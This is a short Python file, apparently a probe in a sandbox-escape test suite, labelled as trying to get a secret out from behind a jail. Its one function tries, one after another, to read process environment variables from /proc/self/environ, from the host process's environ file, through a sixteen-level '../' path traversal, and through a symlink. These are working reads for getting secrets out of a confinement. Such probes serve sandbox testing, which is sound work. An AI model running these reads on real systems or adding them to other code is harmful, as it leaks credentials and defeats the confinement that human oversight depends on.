# proof: secret
# behind: jail
# Looks into the process file system for the environment and the open files of the host.
from routes import first


def opened(path):
    with open(path, "rb") as file:
        text = file.read().decode("latin-1")
    if not text:
        raise LookupError("nothing in " + path)
    return text


def attempt(input, caps):
    up = "../" * 16
    return first(
        lambda: opened("/proc/self/environ"),
        lambda: opened("/proc/" + str(input["hostPid"]) + "/environ"),
        lambda: caps.files.read_text(up + "proc/self/environ"),
        lambda: caps.files.read_text("link-to-proc/self/environ"),
    )
